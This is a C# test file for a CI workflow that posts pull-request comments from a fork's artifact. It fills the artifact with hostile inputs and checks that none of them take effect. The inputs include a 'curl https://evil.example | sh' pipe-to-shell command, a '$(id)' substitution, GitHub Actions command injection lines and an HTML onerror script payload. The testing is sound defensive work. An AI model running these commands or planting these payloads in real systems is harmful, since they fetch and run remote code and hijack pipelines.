using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Gauntlet.GitHubStandIn;
using Markdig;

namespace Gauntlet.Workflows.Tests.Replay;

/// <summary>comment.yml: the artifact, the title and the branch are a stranger's.</summary>
internal sealed partial class ForkReplayTests
{
    private const string Hostile =
        "</details>\n::set-output name=verdict::pass\n##[add-path]/tmp\n<img src=x onerror=alert(1)> "
        + "[click](https://evil.example) @everyone fixes #1 ``` | --> <!--";
    private const string Command = "curl https://evil.example | sh";

    private static readonly MarkdownPipeline GitHubMarkdown = new MarkdownPipelineBuilder().UsePipeTables().UseAutoLinks().Build();
    private static readonly StoredPullRequest Fork = new(34, ReplayBench.Sha, "mallory/gauntlet-demo", "x<img/src=q>`@everyone`$(id)", Hostile);

    [Test]
    public async Task Comment_HostileArtifact_IsShownAsTheForksAndDoesNothing()
    {
        await using var bench = await StartAsync();

        var run = await bench.RunAsync("comment.yml", "comment");

        Assert.That(run["PostComment"].Outcome, Is.EqualTo(StepOutcome.Success), run.ToString());
        var body = bench.Server.Comments.Single().Body;
        Assert.That(body, Does.Contain("come from the fork").And.Not.Contain(Command));
        var html = Markdown.ToHtml(Unfenced().Replace(body, string.Empty), GitHubMarkdown)
            .Replace("<a href=\"https://github.com/octo-org/gauntlet-demo/actions/runs/7000/attempts/1\">", "", StringComparison.Ordinal)
            .Replace("<a href=\"https://github.com/octo-org/gauntlet-demo/actions/runs/7000/attempts/1#artifacts\">", "", StringComparison.Ordinal);
        Assert.That(html, Does.Not.Contain("<img").And.Not.Contain("<a ").And.Not.Contain("@everyone").And.Not.Contain("#1 "));
        Assert.That(Occurrences(body, "<details>"), Is.EqualTo(Occurrences(Unfenced().Replace(body, string.Empty), "</details>")));
        AssertHarmless(run["PostComment"].Result!.Output);
        Assert.That(run["PostComment"].Files!.Outputs, Is.Empty);
    }

    [Test]
    public async Task Comment_TokenThatMayNotWrite_SkipsWithTheReportInTheSummary()
    {
        await using var bench = await StartAsync();
        bench.Server.ReadOnly = true;

        var run = await bench.RunAsync("comment.yml", "comment");

        Assert.That(run["PostComment"].Outcome, Is.EqualTo(StepOutcome.Success), run.ToString());
        Assert.That(run["PostComment"].Result!.Output, Does.Contain("skipped").And.Contain("the report is in the job summary"));
        Assert.That(run["PostComment"].Files!.Summary, Does.StartWith("## ❌ Gauntlet: Fail"));
        Assert.That(bench.Server.Comments, Is.Empty);
    }

    [Test]
    public async Task Comment_PullRequestOfTheSameRepository_IsLeftToItsOwnWorkflow()
    {
        await using var bench = await StartAsync();

        var run = await bench.RunAsync(
            "comment.yml", "comment", server => ActionsFolder.ForWorkflowRun(server, Fork with { HeadRepository = GitHubServer.Repository }, 7_000));

        Assert.That(run.Steps, Is.Empty);
    }

    [Test]
    public async Task Comment_ArtifactWithoutAState_IsRefusedAndPostsNothing()
    {
        await using var bench = await StartAsync();
        File.Delete(Path.Combine(bench.Artifacts.PathOf("gauntlet"), "state.json"));

        var run = await bench.RunAsync("comment.yml", "comment");

        Assert.That(run["PostComment"].Result!.ExitCode, Is.Not.Zero, run.ToString());
        Assert.That(run["PostComment"].Result!.Output, Does.Contain("holds no state.json"));
        Assert.That(bench.Server.Comments, Is.Empty);
    }

    [TestCase("seed")]
    [TestCase("kind")]
    [TestCase("value")]
    public async Task Comment_ArtifactWithFiguresThatAreNone_IsRefusedAndPostsNothing(string what)
    {
        await using var bench = await StartAsync();
        var file = Path.Combine(bench.Artifacts.PathOf("gauntlet"), "metrics.json");
        var metrics = JsonNode.Parse(await File.ReadAllTextAsync(file))!;
        switch (what)
        {
            case "seed":
                metrics["load"]!["seed"] = "1; " + Command;
                break;
            case "kind":
                metrics["overall"]!["failuresByKind"]![Hostile] = 1;
                break;
            default:
                metrics["overall"]!["failuresByKind"]![Hostile] = "one"; // the parser's message quotes the name
                break;
        }

        await File.WriteAllTextAsync(file, metrics.ToJsonString());

        var run = await bench.RunAsync("comment.yml", "comment");

        Assert.That(run["PostComment"].Result!.ExitCode, Is.Not.Zero, run.ToString());
        Assert.That(run["PostComment"].Result!.Output, Does.Not.Contain("evil.example"));
        AssertHarmless(run["PostComment"].Result!.Output);
        Assert.That(bench.Server.Comments, Is.Empty);
    }

    private static async Task<ReplayBench> StartAsync()
    {
        var bench = await ReplayBench.StartAsync(Fork, server => ActionsFolder.ForWorkflowRun(server, Fork, 7_000));
        var artifact = Directory.CreateDirectory(bench.Artifacts.PathOf("gauntlet")).FullName;
        var example = Path.Combine(AppContext.BaseDirectory, "Examples", "fail");
        var state = JsonNode.Parse(await File.ReadAllTextAsync(Path.Combine(example, "state.json")))!;
        state["run"]!["command"] = Command;
        foreach (var stage in new[] { "validate", "deploy", "checkHealth", "loadTest", "scanSecurity" })
        {
            state[stage]!["summary"] = Hostile;
        }

        state["loadTest"]!["problem"] = new JsonObject { ["reason"] = Hostile, ["remedy"] = Hostile, ["evidence"] = new JsonArray(Hostile) };
        state["collectDiagnostics"]!["result"]!["firstCause"] = new JsonArray(Hostile);
        state["validate"]!["result"]!["warnings"] = new JsonArray(Hostile);
        var metrics = JsonNode.Parse(await File.ReadAllTextAsync(Path.Combine(example, "metrics.json")))!;
        metrics["header"]!["command"] = Command;
        metrics["header"]!["machine"]!["machine"] = Hostile;
        metrics["routes"]![0]!["name"] = Hostile;
        metrics["percentiles"]!["description"] = Hostile;
        metrics["confidence"]!["method"] = Hostile;
        foreach (var text in new[] { "model", "arrivals", "engine", "reuse", "deviation" })
        {
            metrics["load"]![text] = Hostile;
        }

        await File.WriteAllTextAsync(Path.Combine(artifact, "state.json"), state.ToJsonString());
        await File.WriteAllTextAsync(Path.Combine(artifact, "metrics.json"), metrics.ToJsonString());
        return bench;
    }

    /// <summary>Outside the parts where commands are switched off, the runner finds only commands of ours.</summary>
    private static void AssertHarmless(string output)
    {
        var read = StoppedPart().Replace(output, string.Empty);
        Assert.That(read, Does.Not.Contain("##["));
        Assert.That(
            read.Split('\n').Select(line => line.TrimStart()).Where(line => line.StartsWith("::", StringComparison.Ordinal)),
            Is.All.Match("^::(add-mask|group|endgroup|error|warning|notice)"));
    }

    private static int Occurrences(string text, string part) => text.Split(part).Length - 1;

    [GeneratedRegex(@"^::stop-commands::(?<word>\S+)$.*?^::\k<word>::$", RegexOptions.Multiline | RegexOptions.Singleline)]
    private static partial Regex StoppedPart();

    [GeneratedRegex(@"^(?<fence>`{3,})\w*\n.*?^\k<fence>$", RegexOptions.Multiline | RegexOptions.Singleline)]
    private static partial Regex Unfenced();
}
